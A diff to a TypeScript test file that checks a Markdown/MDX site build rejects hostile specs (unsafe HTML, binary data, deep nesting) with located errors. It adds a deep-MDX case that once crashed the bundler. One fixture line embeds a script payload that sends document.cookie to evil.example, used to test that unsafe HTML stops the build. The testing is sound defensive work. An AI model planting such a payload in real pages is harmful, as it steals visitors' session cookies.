@@ -1,8 +1,8 @@
 /**
  * Hostile files through the real build (the held-out files go through it too), written to temp
  * folders at test time so no binary file sits in the repository:
- * - unsafe HTML, a binary file, an upper-case extension and runaway nesting stop the build with
- *   located errors and no page written;
+ * - unsafe HTML, a binary file, an upper-case extension and runaway nesting (in .md, and in .mdx,
+ *   which compiles to JavaScript as deep) stop the build with located errors and no page written;
  * - huge but harmless Markdown (5,000-level nesting, 10,000 headings, a 100 KB line, a 5 MB file
  *   with the size limit raised) builds, every page there; `npm run check` takes the 5 MB file too.
  */
@@ -35,6 +35,8 @@ afterAll(() => {
 describe('unsafe or unreadable specs stop the build', () => {
 	const xss = valid('Retry dashboard').replace('- **Context**:', '- **Context**: See <script>fetch("https://evil.example/?c=" + document.cookie)</script> and');
 	const deep = valid('Runaway nesting', `${'> '.repeat(20_000)}x`);
+	// Compiled to JavaScript this deep, an .mdx spec crashed the bundler (a segmentation fault).
+	const deepMdx = valid('Deep MDX', `${'- '.repeat(300)}x`);
 	let site: BuiltSite;
 	let dir: string;
 
@@ -45,6 +47,7 @@ describe('unsafe or unreadable specs stop the build', () => {
 			'Upper.MD': valid('Upper case'),
 			'binary.md': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]),
 			'deep.md': deep,
+			'deep-mdx.mdx': deepMdx,
 		});
 		folders.push(dir);
 		site = await buildSpecsDir(dir);
@@ -60,6 +63,7 @@ describe('unsafe or unreadable specs stop the build', () => {
 		expect(site.output).toContain(`${path('Upper.MD')}:1:1: error file-extension `);
 		expect(site.output).toContain(`${path('binary.md')}:3:1: error file-encoding `);
 		expect(site.output).toContain(`${path('deep.md')}:${lineOf(deep, '> > >')}:1: error markdown-too-complex `);
+		expect(site.output).toContain(`${path('deep-mdx.mdx')}:${lineOf(deepMdx, '- - -')}:601: error markdown-too-complex `);
 		expect(site.output).not.toContain(`${path('good.md')}:`);
 		// Located lines, not a stack trace.
 		expect(site.output).not.toMatch(/\n\s+at .+\(.+:\d+:\d+\)/);
